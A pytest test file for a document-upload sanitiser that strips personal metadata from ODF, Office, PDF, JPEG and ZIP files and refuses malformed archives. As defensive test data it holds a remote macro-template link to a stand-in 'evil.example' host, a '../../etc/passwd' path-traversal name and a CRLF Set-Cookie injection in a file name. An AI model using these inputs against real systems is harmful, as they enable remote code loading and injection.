"""What we refuse, with the sentence that says what to do; what we take, and what it loses."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from odfdo import Document
from PIL import Image

from foundation.files.checks.common import CleanFile, safe_name
from foundation.files.checks.documents import checked_document
from foundation.files.checks.jpeg import without_metadata
from foundation.files.checks.pictures import checked_picture
from tests.foundation.files import samples


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def test_an_archive_under_a_password_is_refused() -> None:
    content = bytearray(samples.archive({"a.txt": "a"}))
    central = content.index(b"PK\x01\x02")
    content[6] |= 1
    content[central + 8] |= 1
    with pytest.raises(ValidationError, match="mot de passe"):
        checked_document(upload("a.zip", bytes(content)))


def test_an_archive_that_lies_about_its_sizes_is_refused() -> None:
    content = bytearray(samples.archive({"a.txt": b"a" * 100_000}))
    central = content.index(b"PK\x01\x02")
    content[central + 24 : central + 28] = (10).to_bytes(4, "little")
    with pytest.raises(ValidationError):
        checked_document(upload("a.zip", bytes(content)))


def test_an_opendocument_file_forgets_people_and_keeps_its_text() -> None:
    dirty = samples.odt("Lire une carte")
    assert any(samples.AUTHOR.encode() in part for part in samples.unpacked(dirty).values())
    clean = checked_document(upload("a.odt", dirty)).read()
    assert not any(samples.AUTHOR.encode() in part for part in samples.unpacked(clean).values())
    document = Document(io.BytesIO(clean))
    assert "Lire une carte" in document.body.text_recursive
    assert document.meta.title == "Fiche élève"
    with zipfile.ZipFile(io.BytesIO(clean)) as opened:
        first = opened.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert {info.date_time for info in opened.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_comments_and_revisions_of_an_opendocument_file_have_nobody_s_name() -> None:
    content = (
        '<o:c xmlns:o="urn:o" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<o:annotation><dc:creator>{samples.AUTHOR}</dc:creator><o:p>À revoir</o:p></o:annotation>"
        f"<o:change-info><dc:creator>{samples.AUTHOR}</dc:creator></o:change-info></o:c>"
    ).encode()
    settings_xml = (
        f'<c:s xmlns:c="urn:c"><c:config-item c:name="PrinterName">{samples.AUTHOR}</c:config-item></c:s>'
    ).encode()
    dirty = samples.repacked(samples.odt(), content_dot_xml=content, settings_dot_xml=settings_xml)
    parts = samples.unpacked(checked_document(upload("a.odt", dirty)).read())
    assert not any(samples.AUTHOR.encode() in part for part in parts.values())
    assert "À revoir" in parts["content.xml"].decode()


@pytest.mark.parametrize("kind", ["ods", "odp", "odg"])
def test_the_other_opendocument_files_forget_people_too(kind: str) -> None:
    clean = checked_document(upload(f"a.{kind}", samples.odt(kind=kind))).read()
    assert not any(samples.AUTHOR.encode() in part for part in samples.unpacked(clean).values())
    assert Document(io.BytesIO(clean)).get_type() in ("spreadsheet", "presentation", "graphics", "drawing")


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_an_office_file_forgets_people_and_keeps_its_text(kind: str) -> None:
    photo = samples.photograph(80, 60, 6)
    inside = samples.openxml("xlsx")
    dirty = samples.openxml(kind, word__media__image1_dot_jpeg=photo, word__embeddings__sheet_dot_xlsx=inside)
    parts = samples.unpacked(checked_document(upload(f"a.{kind}", dirty)).read())
    nested = samples.unpacked(parts["word/embeddings/sheet.xlsx"])
    for part in [*parts.values(), *nested.values()]:
        assert samples.AUTHOR.encode() not in part
        assert samples.CAMERA.encode() not in part
    assert "Fiche élève" in parts["docProps/core.xml"].decode()
    assert b"<Pages>3</Pages>" in parts["docProps/app.xml"]
    if kind == "docx":
        assert b"Lire une carte" in parts["word/document.xml"]


def test_a_template_on_someone_s_computer_is_forgotten() -> None:
    rels = (
        b'<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/macro.dotm" TargetMode="External"/></Relationships>'
    )
    dirty = samples.openxml(word___rels__settings_dot_xml_dot_rels=rels)
    parts = samples.unpacked(checked_document(upload("a.docx", dirty)).read())
    assert b"evil" not in parts["word/_rels/settings.xml.rels"]


def test_a_pdf_forgets_people_and_keeps_title_pages_and_accessibility() -> None:
    dirty = samples.written(samples.pdf(photo=samples.photograph(80, 60)))
    clean = checked_document(upload("a.pdf", dirty)).read()
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert len(pdf.pages) == 1
        assert "/Info" not in pdf.trailer
        everything = b"".join(
            item.read_raw_bytes() for item in pdf.objects if isinstance(item, pikepdf.Stream)
        )
        with pdf.open_metadata() as metadata:
            assert metadata["dc:title"] == "Fiche élève"
            assert metadata["pdfuaid:part"] == "1"
            assert "dc:creator" not in metadata
    assert samples.AUTHOR.encode() not in everything + clean
    assert samples.CAMERA.encode() not in everything


def test_a_pdf_title_that_is_a_file_name_goes() -> None:
    clean = checked_document(upload("a.pdf", samples.written(samples.pdf(title="copie-dupont.docx")))).read()
    assert b"dupont" not in clean
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert "/Metadata" in pdf.Root  # the mark of accessibility remains


def test_an_ordinary_pdf_with_links_is_taken() -> None:
    document = samples.pdf()
    document.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org")),
            )
        ]
    )
    assert checked_document(upload("a.pdf", samples.written(document))).read().startswith(b"%PDF-")


@pytest.mark.parametrize(
    "content",
    [
        "Élève;note\nA;12".encode(),
        "Élève;note".encode("cp1252"),
        "\ufeffÉlève".encode(),
        "Élève".encode("utf-16"),
    ],
)
def test_text_is_taken_as_it_is(content: bytes) -> None:
    assert checked_document(upload("a.csv", content)).read() == content


def test_everything_in_an_archive_is_cleaned() -> None:
    dirty = samples.archive(
        {
            "fiches/a.odt": samples.odt(),
            "photo.jpg": samples.photograph(80, 60),
            "notes.txt": "Bonjour",
            "__MACOSX/._a.odt": b"\0\0",
        }
    )
    parts = samples.unpacked(checked_document(upload("Mes fiches.zip", dirty)).read())
    assert set(parts) == {"fiches/a.odt", "photo.jpg", "notes.txt"}
    assert samples.AUTHOR.encode() not in parts["photo.jpg"]
    assert not any(
        samples.AUTHOR.encode() in part for part in samples.unpacked(parts["fiches/a.odt"]).values()
    )


def test_a_photograph_inside_a_document_keeps_only_its_orientation() -> None:
    dirty = samples.photograph(80, 60, 6)
    clean = without_metadata(dirty)
    assert samples.AUTHOR.encode() not in clean
    with Image.open(io.BytesIO(clean)) as image, Image.open(io.BytesIO(dirty)) as before:
        assert dict(image.getexif()) == {samples.ORIENTATION: 6}
        assert image.tobytes() == before.tobytes()
        assert image.info["icc_profile"] == samples.profile()
    assert without_metadata(clean) == clean
    assert without_metadata(b"\xff\xd8\xff") == b"\xff\xd8\xff"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Fiche élève n°1.ODT", "fiche-eleve-n1.odt"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\moi\\a.pdf", "a.pdf"),
        ("a" * 300 + ".pdf", "a" * 48 + ".pdf"),
        ("图片.jpg", "fichier.jpg"),
        ("a\r\nSet-Cookie: x.txt", "a-set-cookie-x.txt"),
        ("", "fichier"),
    ],
)
def test_names_are_made_safe(name: str, expected: str) -> None:
    assert safe_name(name) == expected


@hypothesis_settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_whatever_bytes_come_there_is_a_refusal_or_a_clean_file(data: st.DataObject) -> None:
    name, seed, check = data.draw(
        st.sampled_from(
            [
                ("a.jpg", SEEDS["jpg"], checked_picture),
                ("a.png", SEEDS["png"], checked_picture),
                ("a.webp", SEEDS["webp"], checked_picture),
                ("a.gif", SEEDS["gif"], checked_picture),
                ("a.pdf", SEEDS["pdf"], checked_document),
                ("a.odt", SEEDS["odt"], checked_document),
                ("a.docx", SEEDS["docx"], checked_document),
                ("a.zip", SEEDS["zip"], checked_document),
            ]
        )
    )
    content = bytearray(seed)
    for _ in range(data.draw(st.integers(1, 12))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(content)))
    try:
        clean = check(ContentFile(bytes(content[:cut]), name=name))
    except ValidationError:
        return
    assert isinstance(clean, CleanFile)


SEEDS = {
    "jpg": samples.photograph(40, 30),
    "png": samples.png(40, 30),
    "webp": samples.saved(samples.picture(40, 30), "WEBP"),
    "gif": samples.saved(samples.picture(40, 30, "P"), "GIF"),
    "pdf": samples.written(samples.pdf()),
    "odt": samples.odt(),
    "docx": samples.openxml(),
    "zip": samples.archive({"a.txt": "a"}),
}
